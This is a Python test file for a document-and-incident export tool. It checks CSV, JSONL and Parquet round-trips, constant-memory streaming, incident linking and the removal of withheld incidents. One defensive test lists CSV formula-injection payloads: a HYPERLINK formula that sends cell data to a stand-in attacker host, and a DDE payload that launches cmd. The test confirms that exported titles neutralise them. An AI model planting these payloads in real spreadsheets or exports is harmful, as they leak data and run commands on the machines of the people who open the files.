"""Streaming exports: every format round-trips, and memory does not grow with the rows."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tracemalloc
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from tumen.cli import app as cli_app
from tumen.config import Settings
from tumen.export import export, iter_export
from tumen.models import Analysis, Document, Event, Evidence
from tumen.store import SQLiteStore, open_store
from tumen.web.app import create_app


def _fill(store: SQLiteStore, start: int, count: int) -> None:
    """count documents, each with one arrest event, added through the store in one batch."""
    with store.indexing_batch():  # one search-index commit, not one per document
        _add_each(store, start, count)


def _add_each(store: SQLiteStore, start: int, count: int) -> None:
    for n in range(start, start + count):
        text = f"Report {n}: three people were arrested in Dandong. " + "padding " * 40
        url = f"https://example.org/{n}"
        ev = Event(type="arrest", evidence=Evidence(text[:40], 0, 40), date="2020-01-01",
                   people=3, country="CN", place="Dandong")
        store.add_document(Document(
            url=url, canonical_url=url, text=text, title=f"Report {n}", published="2020-01-02",
            content_hash=hashlib.sha256(text.encode()).hexdigest(), language="en",
            analysis=Analysis(language="en", topics=["detention"], events=[ev])), None)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> SQLiteStore:
    """A store with 1,200 documents."""
    s = open_store(str(tmp_path_factory.mktemp("export") / "t.db"))
    assert isinstance(s, SQLiteStore)
    _fill(s, 0, 1200)
    return s


@pytest.mark.parametrize("what", ["documents", "events"])
def test_every_format_round_trips(store: SQLiteStore, what: str, tmp_path: Path) -> None:
    out = io.BytesIO()
    assert export(store, what, "csv", out) == 1200
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode())))
    assert len(rows) == 1200
    out = io.BytesIO()
    assert export(store, what, "jsonl", out) == 1200
    first = json.loads(out.getvalue().splitlines()[0])
    assert first.get("title", first.get("type")) in ("Report 0", "arrest")
    path = tmp_path / "x.parquet"
    with path.open("wb") as f:
        assert export(store, what, "parquet", f) == 1200
    table = pq.read_table(path)
    assert table.num_rows == 1200 and table.to_pylist()[-1]["published"] == "2020-01-02"


def test_incidents_export_with_no_incidents_is_valid(store: SQLiteStore) -> None:
    out = io.BytesIO()
    assert export(store, "incidents", "csv", out) == 0
    assert out.getvalue().decode().startswith("id,key,title,status")


def test_bad_arguments_raise_value_error(store: SQLiteStore) -> None:
    with pytest.raises(ValueError):
        export(store, "secrets", "csv", io.BytesIO())
    with pytest.raises(ValueError):
        export(store, "documents", "xml", io.BytesIO())


def _peak(store: SQLiteStore, fmt: str) -> tuple[int, int]:
    """Peak traced Python memory while streaming a documents export, and chunks produced."""
    tracemalloc.start()
    chunks = 0
    for _ in iter_export(store, "documents", fmt):
        chunks += 1
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, chunks


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_exports_stream_in_constant_memory(tmp_path: Path, fmt: str) -> None:
    s = open_store(str(tmp_path / "m.db"))
    assert isinstance(s, SQLiteStore)
    _fill(s, 0, 1500)
    small, small_chunks = _peak(s, fmt)
    _fill(s, 1500, 4500)
    large, large_chunks = _peak(s, fmt)
    assert large_chunks >= 5 and large_chunks > small_chunks  # bytes leave as they are made
    assert large < small * 1.5, (small, large)  # 4x the rows, not 4x the memory
    s.close()


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]


@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgres",
                                                            marks=pytest.mark.postgres)])
def test_csv_cells_that_start_a_formula_are_neutralised(
    backend: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    db = request.getfixturevalue("pg_url") if backend == "postgres" else str(tmp_path / "f.db")
    s = open_store(db)
    for n, title in enumerate(FORMULAS):
        text = f"Report {n} about a formula title. " * 5
        url = f"https://example.org/f{n}"
        s.add_document(Document(url=url, canonical_url=url, text=text, title=title,
                                content_hash=hashlib.sha256(text.encode()).hexdigest()), None)
    s.close()
    cli = CliRunner().invoke(cli_app, ["export", "--what", "documents", "--format", "csv",
                                       "--db", db])
    api = TestClient(create_app(Settings(db=db))).get("/api/v1/export?what=documents&format=csv")
    for body in (cli.stdout, api.text):
        titles = [row["title"] for row in csv.DictReader(io.StringIO(body, newline=""))]
        assert titles == ["'" + t.replace("\r", "\n") for t in FORMULAS]


def test_events_carry_the_incident_they_went_into(tmp_path: Path) -> None:
    from datetime import datetime

    from test_web_pages import fill_store
    from tumen.audit import Actor
    from tumen.confidential.withheld import withhold
    from tumen.store.base import IncidentFilter

    s = open_store(str(tmp_path / "i.db"))
    fill_store(s)
    s.rebuild_incidents(datetime(2024, 6, 10))
    incidents, _ = s.list_incidents(IncidentFilter(limit=100))
    documents_of = {i.id: set(i.documents) for i in incidents}

    def events() -> list[dict[str, object]]:
        return [json.loads(line) for line in
                b"".join(iter_export(s, "events", "jsonl")).decode().splitlines()]

    rows = events()
    joined = [r for r in rows if r["incident_id"] is not None]
    assert joined and len(joined) < len(rows)  # figures of arrivals found no incident
    assert all(r["document_id"] in documents_of[r["incident_id"]] for r in joined)
    assert {r["incident_id"] for r in joined} == {i.id for i in incidents if i.events}
    header = next(csv.reader(io.StringIO(b"".join(iter_export(s, "events", "csv")).decode())))
    assert header[:3] == ["document_id", "incident_id", "document_url"]
    hidden = joined[0]["incident_id"]
    withhold(s, hidden, "in transit", Actor("editor"))  # type: ignore[arg-type]
    assert hidden not in {r["incident_id"] for r in events()}
    s.close()
